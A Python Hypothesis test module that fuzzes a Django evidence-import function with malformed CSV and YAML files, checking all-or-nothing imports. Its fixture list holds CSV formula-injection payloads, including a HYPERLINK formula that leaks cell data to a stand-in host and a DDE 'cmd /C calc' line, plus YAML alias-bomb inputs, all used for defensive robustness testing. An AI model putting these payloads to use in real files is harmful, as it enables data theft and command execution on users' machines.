"""Fuzzing `import_evidence` with generated YAML and CSV files.

Every case must end in one of two ways:
- `ImportFailed`, every message naming the file, and the database unchanged;
- a correct import: +created observations (+notes), one batch, and nothing else.
Never another exception, never a partial write. Files built only from valid values in
UTF-8 must import (free text up to its 16 KiB limit, any source kind); malformed text, random
bytes, Latin-1/UTF-16, huge fields, shuffled, extra and repeated columns, CR-only line
endings, formula-like cells ("=HYPERLINK(...)"), ANSI escapes, compact and week dates,
host-less URLs, YAML aliases, repeated keys and deep nesting are thrown at it too.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st

from oip.catalogue.schema import Catalogue
from oip.evidence.actions import ImportFailed, ImportResult, import_evidence
from oip.evidence.models import ContextNote, ImportBatch, Observation, Source
from oip.evidence.records import ACCEPTED_CSV_COLUMNS, REQUIRED_CSV_COLUMNS
from oip.vocabulary import OBSERVATION_STATUSES, SOURCE_KINDS

pytestmark = pytest.mark.django_db

FUZZ = settings(
    max_examples=int(os.environ.get("OIP_FUZZ_EXAMPLES", "50")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
TODAY = dt.date(2026, 1, 1)
COUNTRIES = ["AL", "BA", "XK", "ME", "MK", "RS"]
STATUSES = list(OBSERVATION_STATUSES)
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "=cmd|' /C calc'!A0",
    "\t=1",
]
HUGE = 200_000  # longer than the csv module's field limit (131,072)
BIG = 16_000  # a long free text, within its limit (16 KiB)
OVER = 16 * 1024 + 1  # one byte over the free-text limit
ESCAPE = "\x1b[31mred\x1b[0m"  # an ANSI escape: colours a terminal that prints it


def benchmark_ids(catalogue: Catalogue) -> list[str]:
    return [b.id for _, b in catalogue.benchmarks()]


# Text a valid field may hold: anything printable-ish, not blank, no NUL (which neither
# PostgreSQL text nor a sane source has), within the length limits.
valid_text = (
    st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=60)
    .map(str.strip)
    .filter(bool)
)
cell_text = st.one_of(valid_text, st.sampled_from(FORMULAS))
past_dates = st.dates(min_value=dt.date(1990, 1, 1), max_value=TODAY)
bad_values = st.one_of(
    st.just(""),
    st.text(max_size=30),
    st.sampled_from(FORMULAS),
    st.just("x" * HUGE),
    st.sampled_from(
        ["2999-01-01", "2024-13-45", "yesterday", "ZZ", "me", "\x00", "n.d.", "20240101"]
    ),
    st.sampled_from(["2024-W01-1", "https://", "https:///x", ESCAPE, "a\rb", "secret"]),
    st.just("x" * OVER),
    valid_text.map(lambda t: t + "\x00" + t),
    st.binary(max_size=20).map(lambda b: b.decode("latin-1")),
)


def counts() -> tuple[int, int, int, int]:
    return (
        Observation.objects.count(),
        Source.objects.count(),
        ImportBatch.objects.count(),
        ContextNote.objects.count(),
    )


def new_path(tmp_path: Path, suffix: str) -> Path:
    return tmp_path / f"fuzz-{uuid.uuid4().hex[:12]}{suffix}"


def attempt(path: Path, *, must_import: int | None = None) -> ImportResult | None:
    """Import `path` and check the outcome is one of the two allowed; return the result.

    `must_import`: the number of records the file surely holds, all valid (then it must
    import: created + skipped == must_import).
    """
    before = counts()
    failed: ImportFailed | None = None
    try:
        result = import_evidence([path], recorded_by="fuzz", today=TODAY)
    except ImportFailed as exc:
        failed = exc
    if failed is not None:
        assert counts() == before, "a failed import wrote something"
        assert failed.errors
        assert failed.total >= len(failed.errors)
        for error in failed.errors:
            assert error.file == str(path)
            assert str(error).startswith(f"{path}: ")
        assert must_import is None, f"valid file refused: {[str(e) for e in failed.errors[:5]]}"
        return None
    after = counts()
    assert after[0] - before[0] == result.created
    assert after[3] - before[3] == result.context_created
    assert after[2] - before[2] == (1 if result.created or result.context_created else 0)
    assert after[1] >= before[1]
    if must_import is not None:
        assert result.created + result.skipped == must_import
    return result


# CSV


@dataclass
class CsvCase:
    data: bytes
    rows: int
    valid: bool


@st.composite
def csv_files(draw: st.DrawFn, benchmarks: list[str]) -> CsvCase:
    optional = [c for c in ACCEPTED_CSV_COLUMNS if c not in REQUIRED_CSV_COLUMNS]
    columns = list(REQUIRED_CSV_COLUMNS) + draw(st.lists(st.sampled_from(optional), unique=True))
    if "source_url" not in columns and "source_publisher" not in columns:
        columns.append("source_url")
    columns = draw(st.permutations(columns))
    clean = draw(st.booleans())  # half the files only ever hold valid values
    extra = (
        []
        if clean
        else draw(st.lists(st.sampled_from(["extra", "Country", " ", columns[0]]), max_size=2))
    )
    header = list(columns) + extra
    valid = not extra
    rows: list[list[str]] = []
    for _ in range(draw(st.integers(0, 8))):
        good = {
            "country": draw(st.sampled_from(COUNTRIES)),
            "benchmark": draw(st.sampled_from(benchmarks)),
            "status": draw(st.sampled_from(STATUSES)),
            "observed_on": draw(past_dates).isoformat(),
            "source_url": "https://example.org/" + draw(st.text("abcdef0123456789/", max_size=20)),
            "source_title": draw(cell_text),
            "source_publisher": draw(cell_text),
            "source_published_on": draw(st.one_of(st.just(""), past_dates.map(str))),
            "source_excerpt": draw(st.one_of(cell_text, st.just("e" * BIG))),
            "source_kind": draw(st.sampled_from(["", *SOURCE_KINDS])),
            "note": draw(st.one_of(st.just(""), cell_text)),
            "supersedes": "",  # a correction of nothing stored is refused: tested apart
        }
        row = {c: good[c] for c in columns}
        if not clean and draw(st.integers(0, 2)) == 0:  # spoil a field
            row[draw(st.sampled_from(columns))] = draw(bad_values)
            valid = False
        cells = [row[c] for c in columns] + [draw(st.text(max_size=5)) for _ in extra]
        if not clean and draw(st.integers(0, 9)) == 0:  # a ragged row
            cells = cells[: draw(st.integers(0, len(cells)))]
            valid = False
        rows.append(cells)
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])))
    writer.writerow(header)
    writer.writerows(rows)
    text = buffer.getvalue()
    if not clean and rows and draw(st.integers(0, 5)) == 0:  # an old Mac file: CR-only lines
        text = text.replace("\r\n", "\r")
        valid = False
    encodings = ["utf-8", "utf-8-sig"] + ([] if clean else ["latin-1", "utf-16", "cp1252"])
    encoding = draw(st.sampled_from(encodings))
    data = text.encode(encoding, errors="replace")
    if encoding not in ("utf-8", "utf-8-sig") and data != text.encode("utf-8"):
        valid = False
    if not clean and draw(st.integers(0, 3)) == 0:  # damage the bytes: cut, or splice in junk
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(max_size=16)) if draw(st.booleans()) else data[:at]
        valid = False
    if valid:
        # Blank-looking rows are skipped by the reader; count what is really there.
        nonblank = sum(1 for r in rows if any(c.strip() for c in r))
        assume(nonblank == len(rows))
    return CsvCase(data, len(rows), valid)


@FUZZ
@given(data=st.data())
def test_fuzzed_csv_imports_all_or_fails_naming_the_file(
    data: st.DataObject, tmp_path: Path, catalogue: Catalogue
) -> None:
    case = data.draw(csv_files(benchmark_ids(catalogue)))
    path = new_path(tmp_path, ".csv")
    path.write_bytes(case.data)
    result = attempt(path, must_import=case.rows if case.valid else None)
    event("imported" if result is not None else "refused")


def test_formula_cells_are_stored_verbatim(tmp_path: Path, catalogue: Catalogue) -> None:
    benchmark = benchmark_ids(catalogue)[0]
    path = new_path(tmp_path, ".csv")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(
        ["country", "benchmark", "status", "observed_on", "source_url", "source_title", "note"]
    )
    for i, formula in enumerate(FORMULAS):
        writer.writerow(
            [
                "ME",
                benchmark,
                "met",
                f"2024-01-{i + 1:02d}",
                "https://example.org/f",
                formula,
                formula,
            ]
        )
    path.write_text(buffer.getvalue(), encoding="utf-8")
    result = attempt(path, must_import=len(FORMULAS))
    assert result is not None
    notes = set(Observation.objects.filter(batch_id=result.batch_id).values_list("note", flat=True))
    assert notes == {f.strip() for f in FORMULAS}


# YAML


def source_value(draw: st.DrawFn) -> Any:
    source = {
        "url": "https://example.org/" + draw(st.text("abc123", max_size=8)),
        "title": draw(cell_text),
        "publisher": draw(cell_text),
        "published_on": draw(st.one_of(st.none(), past_dates.map(str))),
        "excerpt": draw(st.one_of(st.just(""), cell_text, st.just("y" * BIG))),
    }
    kind = draw(st.sampled_from([None, *SOURCE_KINDS]))
    if kind is not None:
        source["kind"] = kind
    return source


junk_values = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=True),
        st.text(max_size=20),
        st.just("x" * OVER),
        st.sampled_from(FORMULAS),
        st.sampled_from([ESCAPE, "20240101", "https://"]),
    ),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)


@dataclass
class YamlCase:
    data: bytes
    records: int
    valid: bool


@st.composite
def yaml_files(draw: st.DrawFn, benchmarks: list[str]) -> YamlCase:
    records: list[Any] = []
    valid = True
    clean = draw(st.booleans())  # half the files only ever hold valid values
    for _ in range(draw(st.integers(0, 6))):
        record: dict[str, Any] = {
            "country": draw(st.sampled_from(COUNTRIES)),
            "benchmark": draw(st.sampled_from(benchmarks)),
            "status": draw(st.sampled_from(STATUSES)),
            "observed_on": draw(past_dates).isoformat(),
            "source": source_value(draw),
        }
        if draw(st.booleans()):
            record["note"] = draw(cell_text)
        mutation = -1 if clean else draw(st.integers(0, 4))
        if mutation == 0:
            record[draw(st.sampled_from([*record, "extra", "source"]))] = draw(junk_values)
            valid = False
        elif mutation == 1:
            del record[draw(st.sampled_from(sorted(record)))]
            valid = False
        elif mutation == 2:
            records.append(draw(junk_values))
            valid = False
            continue
        records.append(record)
    document: Any = {"observations": records}
    shape = -1 if clean else draw(st.integers(0, 9))
    if shape == 0:
        document = draw(junk_values)
        valid = False
    elif shape == 1:
        document["extra"] = draw(junk_values)
        valid = False
    elif (
        shape == 2
        and len(records) >= 2
        and all(isinstance(r, dict) and "source" in r for r in records[:2])
    ):
        records[1]["source"] = records[0]["source"]  # one object twice: dumped as an alias
        valid = False
    elif shape == 3:  # nested deeper than any record needs
        document["observations"] = [[[[[[[[[[records]]]]]]]]]]
        valid = False
    text = yaml.safe_dump(
        document, allow_unicode=draw(st.booleans()), width=draw(st.sampled_from([80, 10_000]))
    )
    if shape == 4:  # a key written twice in one mapping
        text = "observations: []\n" + text
        valid = False
    encodings = ["utf-8", "utf-8-sig"] + ([] if clean else ["latin-1", "utf-16"])
    encoding = draw(st.sampled_from(encodings))
    data = text.encode(encoding, errors="replace")
    if encoding not in ("utf-8", "utf-8-sig") and data != text.encode("utf-8"):
        valid = False
    if not clean and draw(st.integers(0, 3)) == 0:
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(max_size=16)) if draw(st.booleans()) else data[:at]
        valid = False
    return YamlCase(data, len(records), valid)


@FUZZ
@given(data=st.data())
def test_fuzzed_yaml_imports_all_or_fails_naming_the_file(
    data: st.DataObject, tmp_path: Path, catalogue: Catalogue
) -> None:
    case = data.draw(yaml_files(benchmark_ids(catalogue)))
    path = new_path(tmp_path, data.draw(st.sampled_from([".yaml", ".yml"])))
    path.write_bytes(case.data)
    result = attempt(path, must_import=case.records if case.valid else None)
    event("imported" if result is not None else "refused")


@FUZZ
@given(
    raw=st.one_of(
        st.binary(max_size=400),
        st.text(max_size=400).map(lambda t: t.encode("utf-8", "surrogatepass")),
        st.sampled_from(
            [
                b"observations: [",
                b"observations:\n  - &a [*a]\n",
                b"\xff\xfe" + "observations: []\n".encode("utf-16-le"),
                b"country,benchmark\n\x00\x00\x00",
                b'country,benchmark,status,observed_on,source_title\n"unterminated',
                "observations:\n  - {country: ME, note: caf\xe9}\n".encode("latin-1"),
                b"\xef\xbb\xbf",
                b"",
                b"observations:\n- note: &a [x, x]\n- note: &b [*a, *a]\n- note: [*b, *b]\n",
                b"observations: " + b"[" * 5000 + b"]" * 5000 + b"\n",
                b"country,benchmark,status,observed_on,source_title\rME,x,met,2024-01-01,T\r",
                b"observations:\n- {country: NO, country: NO}\n",
            ]
        ),
    ),
    suffix=st.sampled_from([".csv", ".yaml", ".yml", ".txt"]),
)
def test_random_bytes_never_crash_the_import(raw: bytes, suffix: str, tmp_path: Path) -> None:
    path = new_path(tmp_path, suffix)
    path.write_bytes(raw)
    attempt(path)


def test_several_files_one_bad_write_nothing(tmp_path: Path, catalogue: Catalogue) -> None:
    benchmark = benchmark_ids(catalogue)[0]
    good = new_path(tmp_path, ".yaml")
    good.write_text(
        yaml.safe_dump(
            {
                "observations": [
                    {
                        "country": "ME",
                        "benchmark": benchmark,
                        "status": "met",
                        "observed_on": "2024-01-01",
                        "source": {"url": "https://example.org/a", "title": "A"},
                    }
                ]
            }
        ),
        encoding="utf-8",
    )
    bad = new_path(tmp_path, ".csv")
    bad.write_bytes("country,benchmark\ncafé".encode("latin-1"))
    before = counts()
    with pytest.raises(ImportFailed) as failed:
        import_evidence([good, bad], recorded_by="fuzz", today=TODAY)
    assert counts() == before
    assert {e.file for e in failed.value.errors} == {str(bad)}


@pytest.mark.parametrize(
    ("suffix", "text"),
    [
        (
            ".csv",
            "country,benchmark,status,observed_on,source_url,source_title,note\n"
            "ME,{b},met,2024-01-01,https://example.org/n,Title,a\x00b\n",
        ),
        (
            ".yaml",
            "observations:\n  - {{country: ME, benchmark: {b}, status: met, "
            'observed_on: 2024-01-01, source: {{url: "https://example.org/n", title: "T\\0"}}}}\n',
        ),
    ],
    ids=["csv-note", "yaml-source-title"],
)
def test_nul_characters_are_refused_naming_the_file(
    suffix: str, text: str, tmp_path: Path, catalogue: Catalogue
) -> None:
    """Found by this fuzzing: PostgreSQL text cannot hold NUL, so such a record crashed the
    write (DataError) on PostgreSQL and was stored on SQLite. Now it is a record error."""
    path = new_path(tmp_path, suffix)
    path.write_text(text.format(b=benchmark_ids(catalogue)[0]), encoding="utf-8")
    before = counts()
    with pytest.raises(ImportFailed) as failed:
        import_evidence([path], recorded_by="fuzz", today=TODAY)
    assert counts() == before
    [error] = failed.value.errors
    assert error.file == str(path)
    assert error.field in {"note", "source.title"}
    assert "NUL" in error.message
